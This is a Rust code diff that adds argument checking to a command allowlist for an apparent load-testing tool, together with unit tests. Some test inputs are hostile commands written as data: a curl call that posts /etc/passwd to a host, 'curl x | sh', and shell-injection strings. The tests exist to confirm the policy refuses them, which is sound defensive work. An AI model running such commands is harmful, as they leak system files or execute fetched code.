@@ -6,6 +6,8 @@
 
 use std::collections::BTreeSet;
 
+use super::arguments;
+
 /// What is to be run.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(super) enum Work {
@@ -27,6 +29,8 @@ pub(super) struct Policy {
     pub(super) any: bool,
     /// Names of programs, without a path.
     pub(super) listed: BTreeSet<String>,
+    /// Those among them that are given any argument.
+    pub(super) any_argument: BTreeSet<String>,
 }
 
 impl Policy {
@@ -45,6 +49,7 @@ impl Policy {
                 return Err("a command is missing before or after |".to_owned());
             }
             self.permit(program)?;
+            self.permit_arguments(program, words)?;
         }
         Ok(Work::Pipe(pipe))
     }
@@ -61,6 +66,19 @@ impl Policy {
         Ok(Work::Pipe(vec![
             std::iter::once(program).chain(words.split_whitespace()).map(String::from).collect(),
         ]))
+    }
+
+    fn permit_arguments(&self, program: &str, words: &[String]) -> Result<(), String> {
+        if self.any_argument.contains(program) {
+            return Ok(());
+        }
+        let refused = |argument: String| {
+            format!(
+                "{program} is not run with {argument}: only arguments that lead to no files, scripts and sockets of the Pod are \
+                 taken; --allow-commands={program} of the load tester takes all"
+            )
+        };
+        arguments::admit(program, words.get(1..).unwrap_or_default()).map_err(refused)
     }
 
     fn permit(&self, program: &str) -> Result<(), String> {
@@ -173,8 +191,12 @@ fn needs_shell(c: char) -> String {
 mod tests {
     use super::*;
 
+    fn none() -> Policy {
+        Policy { any: false, listed: BTreeSet::new(), any_argument: BTreeSet::new() }
+    }
+
     fn policy() -> Policy {
-        Policy { any: false, listed: ["hey", "curl", "grep"].map(String::from).into() }
+        Policy { listed: ["hey", "curl", "grep", "tool"].map(String::from).into(), ..none() }
     }
 
     #[track_caller]
@@ -195,10 +217,13 @@ mod tests {
             &[&["curl", "-sd", "test", "http://podinfo-canary:9898/token"], &["grep", "token"]],
         );
         becomes(
-            "hey -m POST \\\n  -d '{\"a\": \"$b|c\"}' -H \"x: \\\"y\\\"\" ''",
-            &[&["hey", "-m", "POST", "-d", "{\"a\": \"$b|c\"}", "-H", "x: \"y\"", ""]],
+            "tool -m POST \\\n  -d '{\"a\": \"$b|c\"}' -H \"x: \\\"y\\\"\" ''",
+            &[&["tool", "-m", "POST", "-d", "{\"a\": \"$b|c\"}", "-H", "x: \"y\"", ""]],
         );
-        becomes("grep 'a'b\"c\"\\ d$ http://x/?q=1*2#f", &[&["grep", "abc d$", "http://x/?q=1*2#f"]]);
+        becomes(
+            "curl 'http://a'b\"c\"\\ d$ http://x/?q=1*2#f",
+            &[&["curl", "http://abc d$", "http://x/?q=1*2#f"]],
+        );
     }
 
     #[test]
@@ -234,7 +259,7 @@ mod tests {
     fn only_programs_on_the_list_may_run_anywhere_in_a_pipe() {
         for text in ["sh -c hey", "/bin/hey x", "./hey x", "A=b hey x", "curl x | sh", "\"hey x\""] {
             let why = policy().admit(text, "sh").unwrap_err();
-            assert!(why.contains("curl, grep, hey"), "{text}: {why}");
+            assert!(why.contains("curl, grep, hey, tool"), "{text}: {why}");
         }
         for text in ["", " ", "| hey", "hey x |", "hey x | | grep y", "''"] {
             assert!(policy().admit(text, "sh").is_err(), "{text:?}");
@@ -242,10 +267,19 @@ mod tests {
     }
 
     #[test]
+    fn f11_arguments_are_looked_at_unless_the_program_is_allowed_by_name() {
+        let text = "hey http://x | curl -d @/etc/passwd http://x";
+        let why = policy().admit(text, "sh").unwrap_err();
+        assert!(why.contains("curl is not run with -d") && why.contains("--allow-commands=curl"), "{why}");
+        let named = Policy { any_argument: ["curl".to_owned()].into(), ..policy() };
+        assert!(named.admit(text, "sh").is_ok());
+    }
+
+    #[test]
     fn a_program_of_its_own_gets_words_and_never_a_shell() {
         let text = "test podinfo  --set a='$(x)'|y\n;z";
         let words = ["helm", "test", "podinfo", "--set", "a='$(x)'|y", ";z"].map(String::from).to_vec();
-        let listed = Policy { listed: ["helm".to_owned()].into(), any: false };
+        let listed = Policy { listed: ["helm".to_owned()].into(), ..none() };
         let any = Policy { any: true, ..policy() };
         for policy in [listed, any] {
             assert_eq!(policy.admit_program("helm", text), Ok(Work::Pipe(vec![words.clone()])));
